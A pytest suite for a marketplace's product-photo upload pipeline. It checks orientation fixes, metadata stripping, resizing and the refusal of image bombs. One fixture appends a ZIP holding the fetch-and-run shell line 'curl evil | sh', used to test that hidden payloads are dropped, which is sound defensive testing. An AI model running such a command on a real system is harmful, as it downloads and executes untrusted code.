"""Product photos: accepted by content, upright, stripped, resized, and bombs refused cheaply."""

from __future__ import annotations

import io

import pytest
from PIL import Image, PngImagePlugin

from marketplace import uploads
from marketplace.profiles import images
from tests.uploads import corpus
from tests.uploads.measure import measure_refusal

pytestmark = pytest.mark.database_free

LIMITS = uploads.UploadLimits()
PHOTO_CASES = [case for case in corpus.CASES if case.target == "photo"]


@pytest.mark.parametrize("case", PHOTO_CASES, ids=lambda case: case.name)
def test_hostile_and_broken_photos_get_their_promised_outcome(case: corpus.Case) -> None:
    assert corpus.run(case) == case.expected


def _two_colour_jpeg(*, size: tuple[int, int], orientation: int | None = None, **extra) -> bytes:
    """Left half red, right half blue; optional EXIF orientation and extra save() params."""
    image = Image.new("RGB", size, (0, 0, 255))
    image.paste((255, 0, 0), (0, 0, size[0] // 2, size[1]))
    exif = Image.Exif()
    if orientation is not None:
        exif[0x0112] = orientation
    buffer = io.BytesIO()
    image.save(buffer, "JPEG", quality=95, exif=exif.tobytes(), **extra)
    return buffer.getvalue()


def _open(rendition: images.Rendition) -> Image.Image:
    image = Image.open(io.BytesIO(rendition.data))
    image.load()
    return image


def test_photo_with_exif_orientation_6_comes_out_turned_upright() -> None:
    # Orientation 6: the camera was held turned, the viewer must rotate 90° clockwise,
    # so the stored left half (red) ends up on top.
    result = images.process_photo(_two_colour_jpeg(size=(400, 200), orientation=6), limits=LIMITS)

    large = _open(result.large)
    assert large.size == (200, 400)
    red, green, blue = large.getpixel((100, 50))
    assert red > 200 and blue < 60
    red, green, blue = large.getpixel((100, 350))
    assert blue > 200 and red < 60


def _photo_full_of_metadata() -> bytes:
    exif = Image.Exif()
    exif[0x010F] = "KameraMerek"  # Make
    exif[0x0131] = "SecretEditor 1.0"  # Software
    gps = exif.get_ifd(0x8825)
    gps[1], gps[2] = "S", (6.0, 12.0, 30.0)  # latitude ref and latitude: Jakarta
    gps[3], gps[4] = "E", (106.0, 49.0, 0.0)
    xmp = (
        b'<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF><rdf:Description>'
        b"<dc:creator>Bu Sari NIK 3171234567890001</dc:creator></rdf:Description></rdf:RDF>"
        b"</x:xmpmeta>"
    )
    image = Image.new("RGB", (2000, 1500), (200, 120, 40))
    buffer = io.BytesIO()
    image.save(
        buffer,
        "JPEG",
        exif=exif.tobytes(),
        xmp=xmp,
        comment=b"rahasia-komentar",
        icc_profile=b"\x00" * 128 + b"ICCPROFILE-SECRET",
    )
    return buffer.getvalue()


def _png_full_of_text() -> bytes:
    info = PngImagePlugin.PngInfo()
    info.add_text("Comment", "rahasia-komentar")
    info.add_itxt("XML:com.adobe.xmp", '<x:xmpmeta xmlns:x="adobe:ns:meta/"/>')
    info.add_text("GPSLatitude", "-6.2", zip=True)
    buffer = io.BytesIO()
    Image.new("RGBA", (300, 200), (10, 200, 10, 255)).save(buffer, "PNG", pnginfo=info)
    return buffer.getvalue()


@pytest.mark.parametrize("source", [_photo_full_of_metadata, _png_full_of_text])
def test_renditions_carry_no_exif_gps_xmp_icc_or_comment(source) -> None:
    original = source()
    assert b"rahasia-komentar" in original  # the test file really carries the secrets

    result = images.process_photo(original, limits=LIMITS)

    for rendition in (result.large, result.small):
        image = _open(rendition)
        assert dict(image.getexif()) == {}
        assert not set(image.info) & {"exif", "xmp", "icc_profile", "comment", "Comment"}
        for secret in (
            b"Exif",
            b"GPS",
            b"<x:xmpmeta",
            b"XMP ",
            b"ICCP",
            b"ICCPROFILE-SECRET",
            b"rahasia-komentar",
            b"KameraMerek",
            b"SecretEditor",
            b"3171234567890001",
        ):
            assert secret not in rendition.data


def test_renditions_fit_their_bounds_and_never_upscale() -> None:
    big = images.process_photo(_two_colour_jpeg(size=(4000, 3000)), limits=LIMITS)
    tiny = images.process_photo(corpus.jpeg(), limits=LIMITS)

    assert (big.large.width, big.large.height) == (1280, 960)
    assert (big.small.width, big.small.height) == (320, 240)
    assert (tiny.large.width, tiny.large.height) == (64, 48)
    for rendition in (big.large, big.small, tiny.large, tiny.small):
        assert rendition.mime == "image/webp"
        assert _open(rendition).format == "WEBP"
        assert (rendition.width, rendition.height) == _open(rendition).size


def test_transparent_png_is_flattened_on_white() -> None:
    buffer = io.BytesIO()
    Image.new("RGBA", (50, 50), (255, 0, 0, 0)).save(buffer, "PNG")

    result = images.process_photo(buffer.getvalue(), limits=LIMITS)

    image = _open(result.large)
    assert image.mode == "RGB"
    assert all(channel > 245 for channel in image.getpixel((25, 25)))


def test_jpeg_with_appended_zip_is_stored_without_the_zip() -> None:
    payload = corpus.zip_bytes({"payload.sh": b"curl evil | sh"})

    result = images.process_photo(corpus.jpeg() + payload, limits=LIMITS)

    for rendition in (result.large, result.small):
        assert b"PK\x03\x04" not in rendition.data
        assert b"payload.sh" not in rendition.data


def test_too_many_pixels_refusal_names_the_size_and_the_limit() -> None:
    with pytest.raises(uploads.UploadRejected) as caught:
        images.process_photo(corpus.png_with_header(8000, 6000), limits=LIMITS)

    assert caught.value.code == "too_many_pixels"
    assert caught.value.params["pixels"] == 48_000_000
    message = uploads.rejection_message(caught.value)
    assert "48 megapixels" in message and "40 megapixels" in message


@pytest.mark.parametrize(
    ("name", "build", "limits", "code"),
    corpus.IMAGE_BOMBS,
    ids=lambda value: value if isinstance(value, str) else "",
)
def test_image_bombs_are_refused_before_decoding(name, build, limits, code, tmp_path) -> None:
    # Within 256 MB of extra memory: a decoded bomb would take gigabytes. How long a refusal
    # takes is measured by bench/uploads.py, not asserted here.
    figures = measure_refusal(build(), target="photo", tmp_path=tmp_path, limits=limits)

    assert figures["code"] == code
    assert figures["extra_mb"] < 256
